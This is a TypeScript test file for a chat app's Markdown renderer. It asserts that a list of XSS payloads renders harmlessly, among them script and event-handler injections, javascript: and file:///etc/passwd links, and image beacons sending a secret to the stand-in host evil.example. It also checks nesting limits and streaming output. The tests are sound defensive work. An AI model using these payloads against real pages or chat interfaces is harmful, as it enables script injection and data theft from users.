import { describe, expect, test } from 'vitest';
import { loadHighlighter } from '../../../src-renderer/chat/highlight.ts';
import { renderMarkdown } from '../../../src-renderer/chat/render-markdown.ts';
import type { MarkdownBlock, MarkdownOptions } from '../../../src-renderer/chat/render-markdown.ts';

const OPTIONS: MarkdownOptions = {
  labels: { copy: 'Copy', copyCode: 'Copy code', plainCode: 'text' },
  highlighter: null,
  streaming: false,
};

function parse(source: string, options: Partial<MarkdownOptions> = {}): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = renderMarkdown(source, { ...OPTIONS, ...options })
    .map(({ html }) => html)
    .join('');
  return element;
}

/** What no message may hold, however it was written. */
function dangers(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (/^(script|style|iframe|object|embed|svg|math|form|input|img|video|audio|link|meta|base|template)$/.test(tag)) {
      found.push(tag);
    }
    for (const { name, value } of element.attributes) {
      if (
        name.startsWith('on') ||
        ['style', 'src', 'srcset', 'action', 'formaction', 'background', 'id'].includes(name)
      ) {
        found.push(`${tag}[${name}]`);
      }
      if (name === 'href' && !/^https:\/\//.test(value)) found.push(`${tag}[href=${value}]`);
    }
  }
  return found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/beacon.png">',
  '![beacon](https://evil.example/?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example/relative)',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '# <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '<button class="copy-code" onclick="alert(1)">x</button>',
  '<p id="app">clobbered</p>',
];

describe('hostile Markdown', () => {
  test.each(HOSTILE)('shows %j without anything that runs or loads', (source) => {
    expect(dangers(parse(source))).toEqual([]);
  });

  test.each(HOSTILE)('does so for every beginning of %j, as it streams', (source) => {
    for (let length = 1; length <= source.length; length += 1) {
      expect(dangers(parse(source.slice(0, length), { streaming: true }))).toEqual([]);
    }
  });

  test('stays harmless when the highlighter colours it', async () => {
    const highlighter = await loadHighlighter();
    const root = parse('```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```', { highlighter });
    expect(dangers(root)).toEqual([]);
    expect(root.querySelector('code')?.textContent).toBe('<script>alert(1)</script><img src=x onerror=alert(1)>');
    expect(root.querySelector('.hljs-name')).not.toBeNull();
  });
});

describe('what is shown', () => {
  test('raw HTML is shown as the text that it is', () => {
    expect(parse('a <b onclick=x>bold</b>').textContent.trim()).toBe('a <b onclick=x>bold</b>');
  });

  test('an image becomes a link to it', () => {
    const anchor = parse('![a chart](https://example.org/c.png)').querySelector('a');
    expect([anchor?.href, anchor?.textContent]).toEqual(['https://example.org/c.png', 'a chart']);
  });

  test('an https link keeps its target; any other address is text behind its words', () => {
    const root = parse(
      '[a](https://example.org/x?y=1&z=2) [b](mailto:aino@example.org) [c](http://example.org) [d](notes.md) [e]() ' +
        '![f](http://example.org/f.png)',
    );
    expect([...root.querySelectorAll('a')].map(({ href }) => href)).toEqual(['https://example.org/x?y=1&z=2']);
    expect(root.textContent.trim()).toBe(
      'a b (mailto:aino@example.org) c (http://example.org) d (notes.md) e f (http://example.org/f.png)',
    );
  });

  test('an address that is its own words is shown once', () => {
    const root = parse('www.example.org, <aino@example.org>, http://example.org/a and ![](http://example.org/b)');
    expect(root.querySelector('a')).toBeNull();
    expect(root.textContent.trim()).toBe(
      'www.example.org, aino@example.org, http://example.org/a and http://example.org/b',
    );
  });

  test('a long address that is no link is cut short', () => {
    const shown = parse(`![x](data:image/png;base64,${'A'.repeat(900)})`).textContent.trim();
    expect([shown.length, shown.at(-2)]).toEqual([305, '…']);
  });

  test('code in a list has its language and its copy button', () => {
    const root = parse('1. See:\n\n   ```js\n   let a = 1;\n   ```');
    expect(root.querySelector('li .code-language')?.textContent).toBe('js');
    expect(root.querySelector('li button.copy-code')?.getAttribute('aria-label')).toBe('Copy code');
    expect(root.querySelector('li pre')?.getAttribute('tabindex')).toBe('0');
  });

  test('a table scrolls within itself and keeps its alignment', () => {
    const root = parse('| a | b |\n|---|--:|\n| 1 | 2 |');
    expect(root.querySelector('.table[tabindex="0"] th:nth-child(2)')?.getAttribute('align')).toBe('right');
  });

  test('an ordered list keeps its first number', () => {
    expect(parse('3. three').querySelector('ol')?.getAttribute('start')).toBe('3');
  });

  test('headings go down one level at a time below the author, and look as deep as they were written', () => {
    const root = parse('#### deep\n\n# top\n\n### third');
    const levels = [...root.querySelectorAll('h1,h2,h3,h4,h5,h6')].map((heading) => [
      heading.tagName,
      heading.className,
    ]);
    expect(levels).toEqual([
      ['H3', 'depth-4'],
      ['H3', 'depth-1'],
      ['H4', 'depth-3'],
    ]);
  });
});

describe('text that no writer would write', () => {
  const words = (root: HTMLElement) => root.textContent.replace(/\s+/g, ' ').trim();

  test.each(['>', '- ', '1. ', '> - ', '*a **b ', '[a', '![', '~~a~~ ', '|a'])(
    '%j 5,000 times over is shown',
    (mark) => {
      expect(words(parse(`${mark.repeat(5000)}the end`))).toMatch(/the end$/);
    },
  );

  test('quotes and lists keep 12 levels, and the marks of deeper ones are text', () => {
    const root = parse(`${'>'.repeat(40)} deep`);
    expect([root.querySelectorAll('blockquote').length, words(root)]).toEqual([12, `${'>'.repeat(28)} deep`]);
    expect(parse(`${'- '.repeat(40)}deep`).querySelectorAll('ul')).toHaveLength(12);
  });

  test('emphasis that would be looked for through the whole of a long text stays text', () => {
    const source = `${'*a'.repeat(4000)}${'a*'.repeat(4000)}`;
    const root = parse(source);
    expect([root.querySelector('em'), words(root)]).toEqual([null, source]);
  });

  test('a quote that goes on without its mark at thousands of lines becomes text', () => {
    const root = parse('> - a\nb\n'.repeat(2000));
    expect([root.querySelector('blockquote'), words(root).length]).toEqual([null, 2000 * 8 - 1]);
  });

  test('bounds leave a long ordinary answer alone', () => {
    const source = 'The *quick* brown **fox**, `jumps` over [it](https://example.org).\n\n> - a *quote*\n\n'.repeat(
      1000,
    );
    expect(parse(source).querySelectorAll('em')).toHaveLength(2000);
  });

  test('a block that cannot be rendered is shown as it was written, and the others as Markdown', () => {
    const highlighter = {
      highlight: (): string => {
        throw new RangeError('Maximum call stack size exceeded');
      },
    };
    const root = parse('*before*\n\n```js\n<b>1</b>\n```\n\n*after*', { highlighter });
    expect([...root.children].map(({ innerHTML }) => innerHTML)).toEqual([
      '<em>before</em>',
      '```js\n&lt;b&gt;1&lt;/b&gt;\n```',
      '<em>after</em>',
    ]);
  });
});

describe('streaming', () => {
  test('blocks that do not change are the same objects as before', () => {
    const first = renderMarkdown('# One\n\nTwo', { ...OPTIONS, streaming: true });
    const second = renderMarkdown('# One\n\nTwo and\n\nthree', { ...OPTIONS, streaming: true }, first);
    expect(second[0]).toBe(first[0]);
    expect(second).toHaveLength(3);
  });

  test('whatever the pieces, the finished text is the same as when rendered at once', () => {
    const source =
      '# Title\n\n- a\n- b\n\n```js\nlet a = 1;\n```\n\n| a |\n|---|\n| 1 |\n\n[x]: https://example.org\n\n[x] end';
    let blocks: readonly MarkdownBlock[] = [];
    for (let length = 1; length <= source.length; length += 3) {
      blocks = renderMarkdown(source.slice(0, length), { ...OPTIONS, streaming: true }, blocks);
    }
    const streamed = renderMarkdown(source, OPTIONS, blocks).map(({ html }) => html);
    expect(streamed).toEqual(renderMarkdown(source, OPTIONS).map(({ html }) => html));
  });

  test('a fence that is not closed yet is already code', () => {
    expect(parse('```py\nprint(1)', { streaming: true }).querySelector('code')?.textContent).toBe('print(1)');
  });
});
